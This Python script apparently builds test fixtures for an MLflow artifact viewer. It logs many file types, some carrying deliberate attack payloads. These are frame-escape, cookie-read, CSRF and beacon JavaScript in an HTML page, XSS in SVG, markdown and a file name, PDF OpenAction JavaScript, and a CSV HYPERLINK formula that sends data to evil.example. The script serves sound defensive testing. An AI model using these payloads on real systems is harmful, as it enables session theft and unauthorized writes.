"""Logs artifacts of every kind with the real client, and prints the runs' ids as JSON."""

import json
import struct
import tempfile
import wave
import zlib
from pathlib import Path

import mlflow
import numpy as np
import pandas as pd

HACK = "document.title='hacked';parent.document.title='hacked'"
FORMULA = "=HYPERLINK(\"http://evil.example/\"&A1)"
# Each way out of its frame that a logged page may try; what became of it stands in the page.
ESCAPES = """
const ways = {
  parent: () => parent.document.title,
  top: () => { if (top === self) throw new Error("there is none"); top.location.href = "about:blank" },
  cookie: () => document.cookie,
  storage: () => localStorage.length,
  database: () => new Promise((done, fail) => { const asked = indexedDB.open("x"); asked.onsuccess = done; asked.onerror = fail }),
  fetch: () => fetch("/api/2.0/mlflow/experiments/get?experiment_id=0"),
  write: () => fetch("/api/2.0/mlflow/experiments/create", { method: "POST", mode: "no-cors", body: '{"name": "hacked"}' }),
  xhr: () => new Promise((done, fail) => { const asked = new XMLHttpRequest(); asked.onload = done; asked.onerror = fail; asked.open("GET", "/ui-api/experiments"); asked.send() }),
  socket: () => new Promise((done, fail) => { const asked = new WebSocket("ws://" + location.host + "/"); asked.onopen = done; asked.onerror = fail }),
  image: () => new Promise((done, fail) => { const asked = new Image(); asked.onload = done; asked.onerror = fail; asked.src = "http://evil.example/?" + Math.random() }),
  script: () => new Promise((done, fail) => { const asked = document.createElement("script"); asked.onload = done; asked.onerror = fail; asked.src = "/assets/index.js"; document.body.append(asked) }),
  eval: () => Function("return 1")(),
  worker: () => new Promise((done, fail) => { const asked = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); asked.onmessage = done; asked.onerror = fail }),
  popup: () => { if (open("/") === null) throw new Error("no window") },
}
const tried = Object.entries(ways).map(async ([name, way]) => {
  try { await way(); return name + " reached" } catch { return name + " refused" }
})
const form = document.body.appendChild(document.createElement("form"))
form.action = "/api/2.0/mlflow/experiments/create"; form.method = "post"; form.submit()
alert("hacked")
Promise.all(tried).then((all) => { document.getElementById("h").textContent = all.join(", ") })
"""
HOSTILE_FILE = "\"><img src=x onerror=alert(1)>'.txt"
CSV_ROWS = 400_000
SOUND_S = 600

client = mlflow.MlflowClient()
experiment_id = client.create_experiment("artifacts")
run = client.create_run(experiment_id, run_name="files").info.run_id
other = client.create_run(experiment_id, run_name="other").info.run_id
empty = client.create_run(experiment_id, run_name="no files").info.run_id


def png(shade: int, size: int = 32) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\0" + bytes([shade, 255 - shade, (x * 8) % 256])[:3] * size for x in range(size))
    header = struct.pack(">IIBBBBB", size, size, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def pdf() -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1);document.title='hacked') >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << >> >>",
        b"<< /Length 31 >>\nstream\n1 0 0 rg 50 50 200 100 re f    \nendstream",
    ]
    body, offsets = b"%PDF-1.4\n", []
    for number, text in enumerate(objects, 1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    trailer = b"trailer << /Root 1 0 R /Size 5 >>\nstartxref\n%d\n%%%%EOF" % len(body)
    return body + b"xref\n0 5\n0000000000 65535 f \n" + table + trailer


geo = {
    "type": "FeatureCollection",
    "features": [
        {
            "type": "Feature",
            "properties": {"name": "square"},
            "geometry": {"type": "Polygon", "coordinates": [[[7, 46], [9, 46], [9, 48], [7, 48], [7, 46]]]},
        },
        {"type": "Feature", "properties": None, "geometry": {"type": "Point", "coordinates": [8, 47]}},
    ],
}
with tempfile.TemporaryDirectory() as folder:
    root = Path(folder)
    files = {
        "page.html": f"<h1 id=h>plot</h1><script>{ESCAPES}</script>",
        "evil.svg": f"<svg xmlns='http://www.w3.org/2000/svg' width='40' height='40' onload=\"{HACK}\"><script>{HACK}</script><rect width='40' height='40' fill='teal'/></svg>",
        "readme.md": f"# Title\n\n<script>{HACK}</script><img src=x onerror=\"{HACK}\">\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
        "config.yaml": "lr: 0.1\nlayers: [1, 2]\n",
        "data.json": json.dumps({"list": [1, 2, {"deep": "value"}], "<b>x</b>": "<script>1</script>", "none": None}),
        "broken.json": '{"a": ',
        "map.geojson": json.dumps(geo),
        "small.tsv": "name\tvalue\nb\t10\na\t9\n\"q\t1\"\t\n",
        "log.txt": "".join(f"line {number}\n" for number in range(500_000)),
        "long.txt": "a line that is wider than any page " * 40 + "the end of it\n",
        "train.log": "first\n",
        "train.py": '"""Trains\nfor a while."""\nimport os\n',
        "formula.csv": f'a,b\n1,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n',
        "nothing.txt": "",
        HOSTILE_FILE: "hostile name",
        "nested/deep/er/MLmodel": "artifact_path: model\n",
    }
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    (root / "plot.png").write_bytes(png(90))
    (root / "doc.pdf").write_bytes(pdf())
    (root / "bytes.bin").write_bytes(bytes(range(256)) * 8)
    (root / "large.bin").write_bytes(bytes(5_000_000))
    with wave.open(str(root / "sound.wav"), "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(2)
        sound.setframerate(8000)
        sound.writeframes(b"\0\0" * 8000 * SOUND_S)
    (root / "broken.wav").write_bytes(b"RIFF no sound")
    pd.DataFrame({"id": range(5000), "name": [f"row {index}" for index in range(5000)]}).to_parquet(root / "table.parquet")
    # One row group, and in it more of each column than is read at first.
    numbers = np.random.default_rng(1).random((400_000, 3))
    pd.DataFrame(numbers, columns=["x", "y", "z"]).to_parquet(root / "large.parquet")
    wide = {f"c{index}": numbers[:20_000, index % 3] + index for index in range(60)}
    wide["end"] = [f"the last of row {index}" for index in range(20_000)]
    pd.DataFrame(wide).to_parquet(root / "wide.parquet")
    pd.DataFrame({"list": [[1, 2], [3]], "struct": [{"a": 1}, None]}).to_parquet(root / "nested.parquet")
    row = ",".join(["0.123456789"] * 10)
    (root / "large.csv").write_text("id," + ",".join(f"c{index}" for index in range(10)) + "\n" + "".join(f"{index},{row}\n" for index in range(CSV_ROWS)))
    client.log_artifacts(run, folder)
client.log_table(run, {"prompt": ["hello", "<i>x</i>"], "score": [0.5, 0.75]}, "eval.json")
small = [mlflow.Image(np.full((16, 24, 3), shade, dtype=np.uint8)) for shade in (0, 200)]
client.log_table(run, {"name": ["a", "b"], "image": small}, "images.json")
for run_id, shade in [(run, 0), (other, 120)]:
    client.log_image(run_id, np.full((16, 16, 3), shade, dtype=np.uint8), "plots/one.png")
    for step in range(3):
        client.log_image(run_id, np.full((16, 16, 3), shade + step * 40, dtype=np.uint8), key="val/sample", step=step * 10)

print(
    json.dumps(
        {
            **{"experimentId": experiment_id, "run": run, "other": other, "empty": empty},
            **{"hostileFile": HOSTILE_FILE, "csvRows": CSV_ROWS},
        }
    )
)
